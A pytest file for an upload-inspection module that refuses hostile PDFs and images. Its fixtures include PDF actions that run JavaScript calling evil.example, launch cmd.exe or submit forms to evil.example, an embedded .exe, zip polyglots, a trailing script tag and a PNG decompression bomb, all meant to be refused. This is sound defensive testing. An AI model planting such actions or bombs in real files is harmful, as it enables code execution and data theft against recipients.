"""The one inspection of uploaded files: each kind of hostile file, built here with the
libraries that write the format, is refused with its flaw; well-formed files, a signed
acknowledgement of receipt among them, pass."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject

from lre_shared.uploads import (
    JPEG,
    MAX_PIXELS,
    PDF,
    PNG,
    Flaw,
    Refused,
    inspect_document,
    inspect_pdf,
)
from tests.support.documents import (
    blank_pdf,
    encrypted,
    image,
    png_bomb,
    png_chunk,
    signed_pdf,
    with_action,
    with_document_javascript,
    written,
    zip_of,
)


def flaw(content: bytes, *accepted: str) -> Flaw | None:
    judged = inspect_document(content, accepted or (PDF, JPEG, PNG))
    return judged.flaw if isinstance(judged, Refused) else None


# ------------------------------------------------------------------------------ PDF


def test_a_plain_pdf_passes() -> None:
    assert inspect_document(blank_pdf()) == PDF


def test_a_signed_acknowledgement_of_receipt_passes_with_its_signature_field() -> None:
    signed = signed_pdf(blank_pdf())

    assert b"/Sig" in signed and b"/AcroForm" in signed
    assert inspect_document(signed, (PDF,)) == PDF


def test_an_open_action_that_only_shows_the_first_page_passes() -> None:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [page.indirect_reference, NameObject("/Fit")]
    )

    assert inspect_document(written(writer)) == PDF


def test_document_javascript_is_refused() -> None:
    assert inspect_document(with_document_javascript()) == Refused(Flaw.active_content, "JavaScript")


@pytest.mark.parametrize(
    ("action", "where", "found"),
    [
        ({"/S": "/JavaScript", "/JS": "app.launchURL('https://evil.example')"}, "/OpenAction", "JavaScript"),
        ({"/S": "/Launch", "/F": "cmd.exe"}, "/Annots", "an action launching a program"),
        ({"/S": "/SubmitForm", "/F": "https://evil.example"}, "/Annots", "an action sending the form"),
        ({"/S": "/GoTo", "/D": "/first"}, "/AA", "automatic actions"),
    ],
    ids=["open-action-js", "launch", "submit-form", "automatic-action"],
)
def test_actions_that_run_or_reach_out_are_refused(action: dict[str, object], where: str, found: str) -> None:
    assert inspect_document(with_action(action, where)) == Refused(Flaw.active_content, found)


def test_attached_files_are_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("facture.exe", b"MZ\x90\x00")

    assert inspect_document(written(writer)) == Refused(Flaw.active_content, "attached files")


def test_an_xfa_form_is_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): ArrayObject()}
    )

    assert inspect_document(written(writer)) == Refused(Flaw.active_content, "an XFA form")


def test_rich_media_is_refused() -> None:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    assert inspect_document(written(writer)) == Refused(Flaw.active_content, "multimedia")


def test_an_encrypted_pdf_is_refused() -> None:
    assert flaw(encrypted(blank_pdf())) is Flaw.encrypted


def test_a_pdf_that_is_no_pdf_past_its_header_is_unreadable() -> None:
    assert flaw(b"%PDF-1.7\n this is no PDF body at all") is Flaw.unreadable


def test_a_pdf_that_is_also_a_zip_archive_is_refused() -> None:
    assert flaw(blank_pdf() + zip_of()) is Flaw.hidden_archive


def test_the_pdf_inspection_reads_a_stream() -> None:
    hostile = io.BytesIO(with_document_javascript("this.print();"))

    assert inspect_pdf(hostile) == Refused(Flaw.active_content, "JavaScript")


# ---------------------------------------------------------------------------- images


@pytest.mark.parametrize(("kind", "content_type"), [("JPEG", JPEG), ("PNG", PNG)])
def test_a_plain_image_passes(kind: str, content_type: str) -> None:
    assert inspect_document(image(kind)) == content_type


def test_a_jpeg_followed_by_a_zip_archive_is_refused_for_its_trailing_data() -> None:
    payload = zip_of()

    assert inspect_document(image("JPEG") + payload) == Refused(Flaw.trailing_data, str(len(payload)))


def test_a_png_with_bytes_after_its_end_is_refused() -> None:
    assert flaw(image("PNG") + b"<script>alert(1)</script>") is Flaw.trailing_data


def test_a_zip_archive_hidden_in_a_png_chunk_is_refused() -> None:
    png = image("PNG")
    end = png.rindex(b"IEND") - 4
    hidden = png[:end] + png_chunk(b"zIPp", zip_of()) + png[end:]

    assert flaw(hidden) is Flaw.hidden_archive


def test_a_jpeg_carrying_a_second_picture_as_phones_write_them_passes() -> None:
    assert inspect_document(image("JPEG") + image("JPEG", (16, 12))) == JPEG


def test_a_png_decompression_bomb_is_refused_with_the_limit() -> None:
    bomb = png_bomb(10_000, 10_000)  # 100 megapixels in a few hundred bytes

    assert len(bomb) < 2000
    refused = inspect_document(bomb)
    assert refused == Refused(Flaw.too_many_pixels, "10000 × 10000", MAX_PIXELS)
    assert "over the limit of 50000000 pixels (50 megapixels)" in str(refused)


def test_a_png_bomb_past_what_the_decoder_would_even_open_is_refused_with_the_limit() -> None:
    assert inspect_document(png_bomb(100_000, 100_000)) == Refused(
        Flaw.too_many_pixels, "10000000000", MAX_PIXELS
    )


def test_the_pixel_limit_is_the_callers() -> None:
    assert inspect_document(image("PNG", (100, 100)), max_pixels=9_999) == Refused(
        Flaw.too_many_pixels, "100 × 100", 9_999
    )


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_an_image_cut_short_is_unreadable(kind: str) -> None:
    whole = image(kind)

    assert flaw(whole[: len(whole) - 40]) is Flaw.unreadable


def test_a_png_whose_pixels_do_not_decode_is_unreadable() -> None:
    png = image("PNG")
    start = png.index(b"IDAT") + 4
    broken = png[:start] + bytes(16) + png[start + 16 :]

    assert flaw(broken) is Flaw.unreadable


# ------------------------------------------------------------------------ other files


@pytest.mark.parametrize("content", [b"GIF89a...", zip_of(), b"<html>", b" %PDF-1.4"])
def test_other_files_are_refused_naming_what_is_accepted(content: bytes) -> None:
    assert inspect_document(content) == Refused(Flaw.not_accepted, "PDF, JPEG and PNG")
    assert str(inspect_document(content, (PDF,))) == "only PDF files are accepted"


def test_an_empty_file_is_refused() -> None:
    assert flaw(b"") is Flaw.empty
